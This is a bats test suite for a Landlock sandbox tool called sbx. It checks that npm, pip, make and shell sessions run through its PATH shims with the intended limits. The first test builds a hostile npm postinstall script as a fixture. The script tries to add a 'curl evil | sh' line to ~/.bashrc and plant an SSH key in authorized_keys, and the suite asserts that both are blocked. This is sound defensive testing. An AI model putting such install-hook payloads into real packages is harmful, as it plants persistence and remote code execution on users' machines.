#!/usr/bin/env bats
# Real tools end to end, never stubs: npm, a venv's pip, make -j2, and the
# session that puts the shims first on PATH.

load test_helper

setup() {
	setup_sealed
	require_landlock
}

@test "npm install: a hostile postinstall completes but writes nothing outside" {
	command -v /usr/bin/npm >/dev/null || fail "npm is not installed"
	mkdir -p "$ROOT/src/evil" "$HOME/.ssh"
	cat >"$ROOT/src/evil/package.json" <<'JSON'
{ "name": "evil", "version": "1.0.0", "scripts": { "postinstall": "node post.js" } }
JSON
	cat >"$ROOT/src/evil/post.js" <<'JS'
const fs = require("fs"), os = require("os"), path = require("path");
function attempt(what, f) {
  try { f(); console.log("ESCAPED " + what); }
  catch (e) { console.log("blocked " + what + ": " + e.code); }
}
attempt("bashrc", () => fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "curl evil | sh\n"));
attempt("authorized_keys", () => {
  fs.mkdirSync(path.join(os.homedir(), ".ssh"), { recursive: true });
  fs.writeFileSync(path.join(os.homedir(), ".ssh", "authorized_keys"), "ssh-ed25519 AAAA evil\n");
});
attempt("outside", () => fs.writeFileSync(process.env.SBX_TEST_OUT + "/pwned", "x"));
attempt("npx cache", () => {
  fs.mkdirSync(path.join(os.homedir(), ".npm", "_npx", "x"), { recursive: true });
});
fs.writeFileSync("postinstall-ran", "yes");
JS
	(cd "$ROOT/src/evil" && HOME=$ROOT/packhome PATH=/usr/local/bin:/usr/bin:/bin npm pack --silent >/dev/null)
	echo '{ "name": "app", "version": "1.0.0" }' >"$WS/package.json"
	SBX_TEST_OUT=$OUT run -0 npm install --no-audit --no-fund --no-update-notifier \
		--foreground-scripts "$ROOT/src/evil/evil-1.0.0.tgz"
	assert_output --partial "blocked bashrc"
	assert_output --partial "blocked authorized_keys"
	assert_output --partial "blocked outside"
	assert_output --partial "blocked npx cache"
	refute_output --partial ESCAPED
	assert_file_exists "$WS/node_modules/evil/package.json"
	assert_file_exists "$WS/node_modules/evil/postinstall-ran"
	assert_file_not_exists "$HOME/.bashrc"
	assert_file_not_exists "$HOME/.ssh/authorized_keys"
	assert_file_not_exists "$OUT/pwned"
	assert_dir_exists "$HOME/.npm/_cacache" # npm's cache: writable by its defaults
	assert_dir_not_exists "$HOME/.npm/_npx"
}

@test "python3 -m venv, then the venv's pip installs a local wheel that imports" {
	# a wheel made here, by hand (no index, no build backend needed)
	"$PY" - "$ROOT/sbxdemo-1.0-py3-none-any.whl" <<'PY'
import base64, hashlib, sys, zipfile
files = {
    "sbxdemo/__init__.py": "ANSWER = 42\n",
    "sbxdemo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: sbxdemo\nVersion: 1.0\n",
    "sbxdemo-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: sbx-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
def digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data.encode()).digest()).rstrip(b"=").decode()
record = "".join(f"{n},{digest(d)},{len(d)}\n" for n, d in files.items()) + "sbxdemo-1.0.dist-info/RECORD,,\n"
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for n, d in files.items():
        z.writestr(n, d)
    z.writestr("sbxdemo-1.0.dist-info/RECORD", record)
PY
	run -0 python3 -m venv .venv
	export PATH=$SHIMS:$WS/.venv/bin:/usr/bin:/bin
	run -0 pip install --no-index --disable-pip-version-check "$ROOT/sbxdemo-1.0-py3-none-any.whl"
	assert_output --partial "Successfully installed sbxdemo-1.0"
	run -0 python3 -c 'import sbxdemo, sys; print(sbxdemo.ANSWER, sys.prefix)'
	assert_output "42 $WS/.venv"
	assert_dir_exists "$HOME/.cache/pip" # pip's cache: writable by its defaults
}

@test "make -j2 builds a C project with a generated header; a rule writing outside fails" {
	command -v cc >/dev/null || fail "no C compiler"
	cat >app.c <<'C'
#include <stdio.h>
#include "gen.h"
int main(void) { printf("%d\n", ANSWER); return 0; }
C
	cat >lib.c <<'C'
int lib(void) { return 1; }
C
	printf 'all: app\ngen.h:\n\techo "#define ANSWER 42" >$@\napp.o: app.c gen.h\n\t$(CC) -c app.c\nlib.o: lib.c\n\t$(CC) -c lib.c\napp: app.o lib.o\n\t$(CC) -o $@ app.o lib.o\ntest: app\n\t./app | grep -qx 42\nevil:\n\techo x >%s/evil\n' "$OUT" >Makefile
	run -0 make -j2 test
	assert_file_exists "$WS/app.o"
	assert_file_exists "$WS/lib.o"
	assert_file_exists "$WS/gen.h"
	run make evil
	assert_failure
	assert_file_not_exists "$OUT/evil"
}

@test "per-tool defaults: npm reaches its registry and ~/.npm; a user config overrides them" {
	run -0 "$SBX" explain npm
	assert_line --regexp "^network: +only registry.npmjs.org \(through sbx's proxy\) +\(wrappers/defaults:[0-9]+\)$"
	assert_line --regexp "^ +$HOME/.npm/_cacache +\(wrappers/defaults:[0-9]+\)"
	refute_line --regexp "^ +$HOME/.npm/_npx "
	run -0 "$SBX" explain npx
	assert_line --regexp "^ +$HOME/.npm/_npx +\(wrappers/defaults:[0-9]+\)"
	run -0 "$SBX" explain make
	assert_line --regexp '^network: +off.* \(default\)$'
	mkdir -p "$XDG_CONFIG_HOME/sbx"
	printf '[npm]\nnetwork = off\n' >"$XDG_CONFIG_HOME/sbx/config"
	run -0 "$SBX" explain npm
	assert_line --regexp "^network: +off.* \($XDG_CONFIG_HOME/sbx/config:2\)$"
}

@test "sbx session puts the shims first; a plain shell does not" {
	export PATH=/usr/local/bin:/usr/bin:/bin
	run --separate-stderr "$SBX" session --dir "$SHIMS" -- /bin/bash -c 'echo "${PATH%%:*} $SBX_SESSION"; python3 -c "import os; print(os.environ[\"SBX_SANDBOX\"])"'
	[ "$status" = 0 ] || fail "status $status: $stderr"
	assert_line --index 0 "$SHIMS 1"
	assert_line --index 1 landlock
	run -0 /bin/bash -c 'echo "${PATH%%:*}"; python3 -c "import os; print(os.environ.get(\"SBX_SANDBOX\", \"bare\"))"'
	assert_line --index 0 /usr/local/bin
	assert_line --index 1 bare
	SBX_SHIM_DIR=$SHIMS run -0 --separate-stderr "$SBX" session /usr/bin/env
	assert_line "PATH=$SHIMS:/usr/local/bin:/usr/bin:/bin"
	run -127 "$SBX" session --dir "$SHIMS" -- no-such-agent-sbx
	run -2 "$SBX" session --bogus
	# With no command, the session starts $SHELL.
	SHELL=/usr/bin/printenv run -0 --separate-stderr "$SBX" session --dir "$SHIMS" --no-check
	assert_line SBX_SESSION=1
}

@test "sbx shell-init prints what puts the shims first, for bash, zsh and fish" {
	SBX_SHIM_DIR="$ROOT/my shims" run -0 "$SBX" shell-init bash
	eval "$output"
	[ "${PATH%%:*}" = "$ROOT/my shims" ]
	[ "$SBX_SESSION" = 1 ]
	SBX_SHIM_DIR="$ROOT/it's" run -0 "$SBX" shell-init fish
	assert_line "set -gx PATH '$ROOT/it\\'s' \$PATH"
	run -0 "$SBX" shell-init zsh
	run -2 "$SBX" shell-init tcsh
}

@test "sbx shims creates, refreshes and lists the shim links" {
	run -0 "$SBX" shims --dir "$ROOT/s"
	assert_output --regexp "^sbx: 1[0-9] shims in $ROOT/s \(1[0-9] new, 0 already there\)$"
	[ "$(readlink "$ROOT/s/npm")" = "$(readlink -f "$SBX")" ]
	run -0 "$SBX" shims --dir "$ROOT/s"
	assert_output --partial "(0 new,"
	run -0 "$SBX" shims --dir "$ROOT/s" --list
	assert_line --regexp '^python3 +-> /usr/bin/python3$'
	run -0 "$SBX" shims --dir "$ROOT/s" cc
	assert_file_exists "$ROOT/s/cc"
	touch "$ROOT/s/plain"
	run -1 "$SBX" shims --dir "$ROOT/s" plain
	assert_output --partial "is not a link"
}

@test "sbx doctor: exit 0 on a good setup, 1 with a fix for each problem" {
	"$SBX" shims --dir "$ROOT/s" >/dev/null
	PATH=$ROOT/s:$PATH SBX_SHIM_DIR=$ROOT/s run -0 "$SBX" doctor
	assert_line --regexp '^ok +landlock ABI'
	assert_line --regexp '^ok +python3 +-> /usr/bin/python3$'
	assert_line --regexp '^ok +the shim folder is first on PATH'
	assert_line --regexp '^0 problems'
	ln -sf /bin/true "$ROOT/s/make"
	SBX_SHIM_DIR=$ROOT/s run -1 "$SBX" doctor
	assert_line --regexp "^FAIL +$ROOT/s/make is not a link to this sbx"
	assert_line "      fix: sbx shims"
	assert_line --regexp '^warn +the shim folder is not first on PATH'
	SBX_SHIM_DIR=$ROOT/none run -1 "$SBX" doctor
	assert_line --partial "no shim folder at $ROOT/none"
}

@test "CPython's test_os and test_httpservers pass through the shim as root, network off (a private loopback)" {
	[ "$(id -u)" = 0 ] || skip "root only: the container case"
	if ! "$PY" -c 'import test.test_os' 2>/dev/null; then
		[ "${SBX_TEST_STRICT:-0}" = 1 ] && fail "needs libpython3.11-testsuite"
		skip "CPython's test suite is not installed"
	fi
	require_namespace
	run -0 python3 -m test -v test_os
	assert_line --regexp '^test_chown_with_root .* ok$'
	# sendfile's tests talk to a server on 127.0.0.1
	assert_line --regexp '^test_send_whole_file .* ok$'
	assert_line "Tests result: SUCCESS"
	run -0 python3 -m test test_httpservers
	assert_output --regexp "(Tests r|R)esult: SUCCESS"
}
